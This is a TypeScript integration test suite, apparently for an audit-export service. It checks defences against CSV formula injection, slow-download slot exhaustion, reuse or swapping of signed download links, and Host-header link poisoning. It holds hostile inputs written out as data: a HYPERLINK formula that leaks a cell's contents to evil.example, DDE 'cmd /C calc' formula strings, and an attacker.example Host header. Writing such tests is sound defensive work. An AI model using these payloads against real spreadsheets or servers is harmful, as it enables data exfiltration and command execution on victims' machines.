import 'reflect-metadata';
import http from 'node:http';
import { mkdtemp, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { print } from 'graphql';
import { ExportLinks } from '../../src/audit/audit-export.links';
import {
  AuditEventsDocument,
  CreateAuditExportDocument,
  type CreateAuditExportInput,
  type CreateAuditExportMutation,
  RevokeApiKeyDocument,
  UpdateApiKeyDocument,
  ViewerDocument,
} from '../../src/client/generated/graphql';
import { ConfigError, loadConfig } from '../../src/config';
import { Plan } from '../../src/entitlements/plans';
import { csvObjects } from '../support/csv';
import { createApiKey, inviteMember } from '../support/fixtures';
import { errorCodes, startTestEnv, TEST_SESSION_SECRET, type Instance, type TestEnv } from '../support/harness';
import { MAIN_JS, runNode } from '../support/processes';
import { eventually, within } from '../support/wait';

/*
 * Attacks on audit exports, replayed over HTTP against a real server: formulas planted in exported cells,
 * downloads that hold database connections without reading, links that outlive their export or name another
 * one, and links built from the caller's Host header.
 */

/** Downloads this instance serves at once in these tests. */
const MAX_CONCURRENT = 2;

let env: TestEnv;
beforeAll(async () => {
  // The idle timeout is long here: held downloads stay open for as long as a test needs them.
  env = await startTestEnv({ EXPORT_MAX_CONCURRENT: String(MAX_CONCURRENT), EXPORT_IDLE_TIMEOUT_MS: '120000' });
});
afterAll(() => env.close());

async function createExport(
  instance: Instance,
  token: string,
  input: CreateAuditExportInput,
): Promise<{ id: string; downloadUrl: string }> {
  const created = await instance.call(CreateAuditExportDocument, { input }, { token });
  expect(created.errors).toBeUndefined();
  return created.data!.createAuditExport!;
}

/** createAuditExport over node:http, which sends the given Host header as it is (fetch replaces it). */
function createExportWithHost(
  instance: Instance,
  token: string,
  host: string,
): Promise<{ id: string; downloadUrl: string }> {
  const body = JSON.stringify({ query: print(CreateAuditExportDocument), variables: { input: { format: 'NDJSON' } } });
  return new Promise((resolve, reject) => {
    const request = http.request(
      `${instance.url}/graphql`,
      {
        method: 'POST',
        agent: false,
        headers: { host, 'content-type': 'application/json', authorization: `Bearer ${token}` },
      },
      (response) => {
        let text = '';
        response.setEncoding('utf8');
        response.on('data', (chunk: string) => (text += chunk));
        response.on('end', () => {
          const result = JSON.parse(text) as { data?: CreateAuditExportMutation; errors?: unknown };
          if (!result.data?.createAuditExport) reject(new Error(`createAuditExport failed: ${text}`));
          else resolve(result.data.createAuditExport);
        });
      },
    );
    request.on('error', reject);
    request.end(body);
  });
}

/** A download as the client saw it: a 200 left unread (paused), or a refusal with its body. */
interface Download {
  status: number;
  headers: http.IncomingHttpHeaders;
  /** The body of a refusal. */
  body: string;
  destroy(): void;
}

/** GETs `url` on a connection of its own; a 200 is paused at once and never read (a slow reader). */
function openDownload(url: string): Promise<Download> {
  return new Promise((resolve, reject) => {
    const request = http.get(url, { agent: false }, (response) => {
      const download = (body: string): Download => ({
        status: response.statusCode!,
        headers: response.headers,
        body,
        destroy: () => request.destroy(),
      });
      if (response.statusCode === 200) {
        response.pause();
        resolve(download(''));
        return;
      }
      let body = '';
      response.setEncoding('utf8');
      response.on('data', (chunk: string) => (body += chunk));
      response.on('end', () => resolve(download(body)));
    });
    request.on('error', reject);
  });
}

/** Export COPY statements running on the test database. */
async function runningCopies(): Promise<number> {
  const [row] = await env.sql<{ count: string }>(
    `SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() AND state = 'active' AND query LIKE 'COPY (SELECT%'`,
  );
  return Number(row!.count);
}

/**
 * A PREMIUM account whose export is far larger than every socket buffer between PostgreSQL and a client that
 * stops reading (about 50 MB as CSV), so such a download stalls instead of finishing.
 */
async function bulkAccount(): Promise<{ token: string }> {
  const owner = await env.seedAccount({ plan: Plan.PREMIUM });
  // Far ahead in seq, so the audit.exported events of later exports take the next numbers; the chain is not verified here.
  await env.sql(
    `INSERT INTO audit_events (id, account_id, seq, occurred_at, action, outcome, actor_type, actor_display, changes, metadata, prev_hash, hash)
     SELECT gen_random_uuid(), $1, 1000000 + g, now(), 'api_key.updated', 'SUCCESS', 'SYSTEM', 'system', '[]',
            jsonb_build_object('n', g, 'pad', repeat('x', 2500)), repeat('0', 64), repeat('1', 64)
       FROM generate_series(1, 20000) AS g`,
    [owner.accountId],
  );
  return { token: owner.token };
}

describe('CSV formula injection', () => {
  it('neutralises formulas an attacker planted through User-Agent, key names, descriptions and reasons, and keeps NDJSON exact', async () => {
    const owner = await env.seedAccount({ plan: Plan.PREMIUM });
    const member = await inviteMember(env, owner, 'MEMBER');
    const userAgent = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the report")';
    // A MEMBER's refused attempt is recorded with the request's User-Agent.
    const refused = await env.api.call(
      CreateAuditExportDocument,
      { input: { format: 'CSV' } },
      { token: member.token, headers: { 'user-agent': userAgent } },
    );
    expect(errorCodes(refused)).toEqual(['FORBIDDEN']);
    const name = "+SUM(1,2)*cmd|' /C calc'!A0";
    const description = "-2+3+cmd|' /C calc'!A0";
    const reason = '@SUM(1+1)*cmd';
    const keyId = (await createApiKey(env.api, owner.token, { name }, { headers: { 'user-agent': '-1+1' } })).id;
    const updated = await env.api.call(
      UpdateApiKeyDocument,
      { input: { id: keyId, description } },
      { token: owner.token },
    );
    expect(updated.errors).toBeUndefined();
    const revoked = await env.api.call(RevokeApiKeyDocument, { input: { id: keyId, reason } }, { token: owner.token });
    expect(revoked.errors).toBeUndefined();

    const csv = await createExport(env.api, owner.token, { format: 'CSV' });
    const rows = csvObjects(await (await fetch(csv.downloadUrl)).text());
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row)) {
        expect({ column, cell, starts: /^[=+\-@\t\r]/.test(cell) }).toEqual({ column, cell, starts: false });
      }
    }
    const denied = rows.find((row) => row.outcome === 'DENIED')!;
    expect(denied.userAgent).toBe(`'${userAgent}`);
    const created = rows.find((row) => row.action === 'api_key.created')!;
    expect(created.userAgent).toBe("'-1+1");
    expect(created.targetDisplay).toMatch(/^'\+SUM\(1,2\)/);
    expect(JSON.parse(created.metadata!)).toMatchObject({ name });
    const changes = JSON.parse(rows.find((row) => row.action === 'api_key.updated')!.changes!) as unknown;
    expect(changes).toEqual([{ field: 'description', before: null, after: description }]);
    expect(JSON.parse(rows.find((row) => row.action === 'api_key.revoked')!.metadata!)).toEqual({ reason });

    // NDJSON carries the stored values byte for byte.
    const ndjson = await createExport(env.api, owner.token, { format: 'NDJSON' });
    const lines = (await (await fetch(ndjson.downloadUrl)).text())
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { outcome: string; action: string; userAgent: string | null });
    expect(lines.find((line) => line.outcome === 'DENIED')!.userAgent).toBe(userAgent);
    expect(lines.find((line) => line.action === 'api_key.created')!.userAgent).toBe('-1+1');
    const page = await env.api.call(AuditEventsDocument, { first: 100, order: 'OLDEST_FIRST' }, { token: owner.token });
    const viaApi = page.data!.auditEvents!.edges.map((edge) => edge.node.userAgent);
    expect(viaApi).toEqual(expect.arrayContaining([userAgent, '-1+1']));
  });
});

describe('download slots', () => {
  it('serves two downloads at a time, refuses more with 503 EXPORTS_BUSY and Retry-After, and keeps serving other tenants', async () => {
    const bulk = await bulkAccount();
    const links: string[] = [];
    for (let i = 0; i < 6; i += 1) links.push((await createExport(env.api, bulk.token, { format: 'CSV' })).downloadUrl);

    // More readers that never read than the ORM pool has connections (5 in tests).
    const downloads: Download[] = [];
    try {
      for (const [i, link] of links.entries()) {
        downloads.push(await within(openDownload(link), `the answer to download ${i + 1}`));
      }
      expect(downloads.map((download) => download.status)).toEqual([200, 200, 503, 503, 503, 503]);
      for (const refused of downloads.slice(MAX_CONCURRENT)) {
        expect(refused.headers['retry-after']).toMatch(/^[1-9]\d*$/);
        expect(JSON.parse(refused.body)).toMatchObject({ code: 'EXPORTS_BUSY' });
      }

      // Another tenant signs in, writes and reads while both slots are held.
      const tenant = await within(env.seedAccount({ plan: Plan.PREMIUM }), 'seeding another account');
      const viewer = await within(env.api.call(ViewerDocument, {}, { token: tenant.token }), 'viewer');
      expect(viewer.errors).toBeUndefined();
      await within(createApiKey(env.api, tenant.token, { name: 'during the downloads' }), 'createApiKey');
      const events = await within(
        env.api.call(AuditEventsDocument, { first: 10 }, { token: tenant.token }),
        'auditEvents',
      );
      expect(events.errors).toBeUndefined();
      const small = await createExport(env.api, tenant.token, { format: 'NDJSON' });

      // The held downloads were not cut off meanwhile: their COPY statements still run.
      expect(await runningCopies()).toBe(MAX_CONCURRENT);

      // A refused link was not spent: it downloads once a slot is free.
      downloads[0]!.destroy();
      await eventually('the closed download’s COPY ends', async () => (await runningCopies()) === 1);
      const retried = await within(fetch(small.downloadUrl), 'the download after a slot was freed');
      expect(retried.status).toBe(200);
      expect((await retried.text()).trim().split('\n')).toHaveLength(4);
    } finally {
      for (const download of downloads) download.destroy();
    }
    await eventually('no export COPY left running', async () => (await runningCopies()) === 0);
  });

  it('cuts off a download whose reader stops reading, and frees its slot', async () => {
    const instance = await env.startInstance({ EXPORT_MAX_CONCURRENT: '1', EXPORT_IDLE_TIMEOUT_MS: '300' });
    const bulk = await bulkAccount();
    const { downloadUrl } = await createExport(instance, bulk.token, { format: 'CSV' });
    const stalled = await within(openDownload(downloadUrl), 'the stalled download');
    try {
      expect(stalled.status).toBe(200);
      // The paused client does not read the server's close; the server says why it ended the download.
      const cutOff = () => instance.logs.some((line) => /"outcome":"idle"/.test(line));
      await eventually('the server cuts off the idle download', cutOff, { timeoutMs: 20_000 });
      await eventually('its COPY ends', async () => (await runningCopies()) === 0);
    } finally {
      stalled.destroy();
    }

    const other = await env.seedAccount({ plan: Plan.PREMIUM });
    const next = await createExport(instance, other.token, { format: 'CSV' });
    const response = await within(fetch(next.downloadUrl), 'the next download');
    expect(response.status).toBe(200);
    expect(await response.text()).toMatch(/^seq,/);
  });
});

describe('download links', () => {
  const links = new ExportLinks(new TextEncoder().encode(TEST_SESSION_SECRET));

  it('downloads a link once; the second fetch is refused with 403', async () => {
    const owner = await env.seedAccount({ plan: Plan.PREMIUM });
    const { downloadUrl } = await createExport(env.api, owner.token, { format: 'NDJSON' });
    const first = await fetch(downloadUrl);
    expect(first.status).toBe(200);
    await first.text();

    const second = await fetch(downloadUrl);
    expect(second.status).toBe(403);
    const body = (await second.json()) as { code: string; error: string };
    expect(body).toMatchObject({ code: 'FORBIDDEN', error: expect.stringMatching(/already/) });
  });

  it('refuses a signature of one export put on another export’s id of the same account', async () => {
    const owner = await env.seedAccount({ plan: Plan.PREMIUM });
    const ndjson = await createExport(env.api, owner.token, { format: 'NDJSON' });
    const csv = await createExport(env.api, owner.token, { format: 'CSV' });
    const swapped = `${env.api.url}/exports/${csv.id}${new URL(ndjson.downloadUrl).search}`;
    const response = await fetch(swapped);
    expect(response.status).toBe(403);
    expect(await response.text()).not.toMatch(/^seq,/);
  });

  it('refuses an export whose stored expiry has passed, even with a link signed for longer', async () => {
    const owner = await env.seedAccount({ plan: Plan.PREMIUM });
    const { id } = await createExport(env.api, owner.token, { format: 'NDJSON' });
    await env.sql(`UPDATE audit_exports SET expires_at = now() - interval '1 minute' WHERE id = $1`, [id]);
    const later = links.path(owner.accountId, id, new Date(Date.now() + 10 * 60_000));
    const response = await fetch(`${env.api.url}${later}`);
    expect(response.status).toBe(403);
    expect(await response.json()).toMatchObject({ code: 'FORBIDDEN', error: expect.stringMatching(/expired/) });
  });
});

describe('download link base URL', () => {
  it('builds links from the listening address, never from the caller’s Host header', async () => {
    const owner = await env.seedAccount({ plan: Plan.PREMIUM });
    const { id, downloadUrl } = await createExportWithHost(env.api, owner.token, 'attacker.example');
    expect(downloadUrl.startsWith(`${env.api.url}/exports/${id}?sig=`)).toBe(true);
  });

  it('builds links from PUBLIC_URL when it is set', async () => {
    const instance = await env.startInstance({ PUBLIC_URL: 'https://keyledger.example.test/' });
    const owner = await env.seedAccount({ plan: Plan.PREMIUM });
    const { id, downloadUrl } = await createExportWithHost(instance, owner.token, 'x.example');
    expect(downloadUrl.startsWith(`https://keyledger.example.test/exports/${id}?sig=`)).toBe(true);
  });

  it('requires PUBLIC_URL when NODE_ENV=production', async () => {
    const production = { NODE_ENV: 'production', SESSION_SECRET: TEST_SESSION_SECRET };
    expect(() => loadConfig(production)).toThrow(ConfigError);
    expect(() => loadConfig(production)).toThrow(/\bPUBLIC_URL\b/);
    expect(loadConfig({ ...production, PUBLIC_URL: 'https://keyledger.example.test' }).publicUrl).toBe(
      'https://keyledger.example.test',
    );

    const dataDir = await mkdtemp(path.join(os.tmpdir(), 'keyledger-public-url-'));
    try {
      const result = await runNode(MAIN_JS, [], {
        env: { PATH: process.env.PATH, HOME: process.env.HOME, PORT: '0', DATA_DIR: dataDir, ...production },
        killAfterMs: 15_000,
      });
      expect({ code: result.code, stdout: result.stdout }).toEqual({ code: 2, stdout: '' });
      expect(result.stderr).toMatch(/^keyledger: invalid configuration: [^\n]*\bPUBLIC_URL\b[^\n]*\n$/);
    } finally {
      await rm(dataDir, { recursive: true, force: true });
    }
  });
});
